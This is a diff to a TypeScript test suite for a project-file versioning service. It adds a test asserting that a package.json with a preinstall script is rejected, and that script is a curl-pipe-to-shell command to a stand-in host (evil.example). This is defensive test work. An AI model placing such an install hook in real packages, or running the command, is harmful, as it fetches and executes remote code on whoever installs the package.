@@ -46,12 +46,24 @@ describe('files and versions', () => {
   });
 
   it('refuses a file whose name differs from another only in case: one file on macOS and Windows', async () => {
-    const sproutId = await newProject(t, owner);
-    const v1 = (await versionsOf(t, owner, sproutId)).currentVersionId;
-    const twin = await put(owner, sproutId, { path: 'client/src/app.tsx', content: 'export default () => null;\n', baseVersionId: v1 });
+    const person = await t.register();
+    const sproutId = await newProject(t, person);
+    const v1 = (await versionsOf(t, person, sproutId)).currentVersionId;
+    const twin = await put(person, sproutId, { path: 'client/src/app.tsx', content: 'export default () => null;\n', baseVersionId: v1 });
     expect(twin.statusCode).toBe(409);
     expect(twin.json()).toMatchObject({ code: 'path_conflict', message: expect.stringContaining('client/src/App.tsx already exists') });
-    expect((await versionsOf(t, owner, sproutId)).currentVersionId).toBe(v1);
+    expect((await versionsOf(t, person, sproutId)).currentVersionId).toBe(v1);
+  });
+
+  it('refuses a package.json that would run or fetch something when the export is installed', async () => {
+    const person = await t.register();
+    const sproutId = await newProject(t, person);
+    const v1 = (await versionsOf(t, person, sproutId)).currentVersionId;
+    const hostile = JSON.stringify({ name: 'app', scripts: { preinstall: 'curl https://evil.example | sh' } });
+    const res = await put(person, sproutId, { path: 'package.json', content: hostile, baseVersionId: v1 });
+    expect(res.statusCode).toBe(400);
+    expect(res.json()).toMatchObject({ code: 'invalid_package_json', message: expect.stringContaining('"preinstall" script') });
+    expect((await versionsOf(t, person, sproutId)).currentVersionId).toBe(v1);
   });
 
   it('restores an old version as a new one, destroying nothing', async () => {
